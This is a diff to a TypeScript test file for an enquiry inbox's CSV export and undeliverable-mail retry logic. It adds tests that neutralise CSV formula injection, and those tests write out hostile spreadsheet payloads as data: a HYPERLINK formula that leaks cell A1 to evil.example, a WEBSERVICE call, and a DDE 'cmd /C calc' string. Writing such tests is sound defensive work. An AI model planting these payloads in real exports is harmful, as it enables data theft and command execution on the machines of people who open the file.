@@ -1,6 +1,7 @@
 import { getPubSub } from '@/lib/model/events';
 import { engines, useTestDb } from '@/lib/test/engines';
 import {
+  countUndeliverableEnquiries,
   CSV_COLUMNS,
   csvCell,
   csvFileName,
@@ -14,7 +15,7 @@ import {
   retryEnquiryDelivery,
   setEnquiryStatus,
 } from './admin';
-import { insertEnquiry } from './test-enquiries';
+import { insertEnquiry, UNDELIVERABLE_ERROR } from './test-enquiries';
 
 describe('CSV cells', () => {
   test.each([
@@ -29,6 +30,8 @@ describe('CSV cells', () => {
     ['-1+2', "'-1+2"],
     ['@SUM(A1)', "'@SUM(A1)"],
     ['\tcmd', "'\tcmd"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['\u0000=1+1', "'\u0000=1+1"],
     ['a=b', 'a=b'],
   ])('%j becomes %j', (value, expected) => {
     expect(csvCell(value)).toBe(expected);
@@ -44,6 +47,34 @@ describe('CSV cells', () => {
     expect(csvFileName(new Date('2026-04-30T15:30:00.000Z'))).toBe('enquiries-20260501.csv');
   });
 });
+
+/** The cells of each record of a CSV text (RFC 4180: a quoted cell may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const char = text[index];
+    if (quoted && char === '"' && text[index + 1] === '"') {
+      cell += '"';
+      index += 1;
+    } else if (char === '"') {
+      quoted = !quoted;
+    } else if (!quoted && char === ',') {
+      record.push(cell);
+      cell = '';
+    } else if (!quoted && char === '\r' && text[index + 1] === '\n') {
+      records.push([...record, cell]);
+      record = [];
+      cell = '';
+      index += 1;
+    } else {
+      cell += char;
+    }
+  }
+  return records;
+}
 
 describe.each(engines())('the enquiry inbox on $name', (engine) => {
   const t = useTestDb(engine);
@@ -138,6 +169,30 @@ describe.each(engines())('the enquiry inbox on $name', (engine) => {
     expect((await retryEnquiryDelivery(t.db, delivered, now)).due).toBe(0);
   });
 
+  test('enquiries with a given-up mail are counted and filtered; a retry makes them pending again', async () => {
+    const retrying = await insertEnquiry(t.db, {}, ['sent', 'failed']);
+    const gaveUp = await insertEnquiry(t.db, { name: '送れない 太郎' }, ['sent', 'undeliverable']);
+    const ids = async (deliveryState: string) => (await listEnquiries(t.db, { deliveryState })).items.map((item) => item.id);
+    expect(await countUndeliverableEnquiries(t.db)).toBe(1);
+    expect(await ids('undeliverable')).toEqual([gaveUp]);
+    expect(await ids('failed')).toEqual([retrying]);
+    expect(await ids('pending')).toEqual([retrying]);
+    let csv = '';
+    for await (const chunk of enquiryCsvLines(t.db, { deliveryState: 'undeliverable' })) csv += chunk;
+    expect(csv).toContain(',送信失敗,');
+
+    const now = new Date('2026-06-01T00:00:00.000Z');
+    const { enquiry, due } = await retryEnquiryDelivery(t.db, gaveUp, now);
+    expect(due).toBe(1);
+    expect(enquiry).toMatchObject({ deliveryState: 'pending', updatedAt: now.toISOString() });
+    expect(enquiry.mails).toEqual([
+      expect.objectContaining({ recipient: 'company', state: 'sent' }),
+      expect.objectContaining({ recipient: 'visitor', state: 'pending', nextAttemptAt: now.toISOString(), lastError: UNDELIVERABLE_ERROR }),
+    ]);
+    expect(await countUndeliverableEnquiries(t.db)).toBe(0);
+    expect(await ids('undeliverable')).toEqual([]);
+  });
+
   test('the CSV has a Japanese header and every matching enquiry, read in batches', async () => {
     const ids: string[] = [];
     for (let index = 0; index < 7; index += 1) ids.push(await insertEnquiry(t.db, { name: `客${index}` }));
@@ -151,7 +206,7 @@ describe.each(engines())('the enquiry inbox on $name', (engine) => {
     expect(lines[0]).toContain('受付日時,種別,対応状況,お名前,フリガナ');
     expect(lines.slice(1).map((line) => line.split(',').at(-1))).toEqual([...ids].reverse());
     expect(lines[1]).toContain(',体験・お問い合わせ,未対応,客6,ヤマダ タロウ,男性,30代,03-1234-5678,');
-    expect(lines[1]).toContain('"第1希望: 2026年5月1日 10:00\n第2希望: 未指定\n第3希望: 未指定"');
+    expect(lines[1]).toContain('"第1希望: 2026年5月1日（金） 10:00\n第2希望: 未指定\n第3希望: 未指定"');
 
     let franchise = '';
     for await (const chunk of enquiryCsvLines(t.db, { kind: 'franchise' })) franchise += chunk;
@@ -161,5 +216,43 @@ describe.each(engines())('the enquiry inbox on $name', (engine) => {
     let none = '';
     for await (const chunk of enquiryCsvLines(t.db, { search: 'nobody' })) none += chunk;
     expect(none.split('\r\n').filter(Boolean)).toHaveLength(1);
+  });
+
+  test('no cell of the CSV starts as a formula, whatever a visitor typed into whichever field', async () => {
+    const triggers = ['=', '+', '-', '@', '\t', '\r'];
+    const typed = (trigger: string) => ({
+      name: `${trigger}HYPERLINK("https://evil.example/?"&A1,"詳細")`,
+      furigana: `${trigger}1+1`,
+      phone: `${trigger}81 90-1234-5678`,
+      email: `${trigger}SUM(1,2)@example.jp`,
+      address: `${trigger}cmd|' /C calc'!A0`,
+      addressOther: `${trigger}A1`,
+      company: `${trigger}WEBSERVICE("https://evil.example")`,
+      destination: `${trigger}渋谷店`,
+      message: `${trigger}1+1\n=2+2`,
+    });
+    for (const trigger of triggers) await insertEnquiry(t.db, typed(trigger));
+    let csv = '';
+    for await (const chunk of enquiryCsvLines(t.db, {})) csv += chunk;
+    const [header = [], ...rows] = parseCsv(csv);
+    expect(rows).toHaveLength(triggers.length);
+    for (const row of rows) {
+      expect(row).toHaveLength(CSV_COLUMNS.length);
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
+    }
+    // Newest first: each typed value is there in full behind its apostrophe.
+    [...triggers].reverse().forEach((trigger, index) => {
+      const cellOf = (column: string) => rows[index]?.[header.indexOf(column)];
+      const values = typed(trigger);
+      expect(cellOf('お名前')).toBe(`'${values.name}`);
+      expect(cellOf('フリガナ')).toBe(`'${values.furigana}`);
+      expect(cellOf('電話番号')).toBe(`'${values.phone}`);
+      expect(cellOf('メールアドレス')).toBe(`'${values.email}`);
+      expect(cellOf('住所')).toBe(`'${values.address}`);
+      expect(cellOf('建物名・部屋番号')).toBe(`'${values.addressOther}`);
+      expect(cellOf('会社名')).toBe(`'${values.company}`);
+      expect(cellOf('お問い合わせ先')).toBe(`'${values.destination}`);
+      expect(cellOf('お問い合わせ内容')).toBe(`'${values.message}`);
+    });
   });
 });
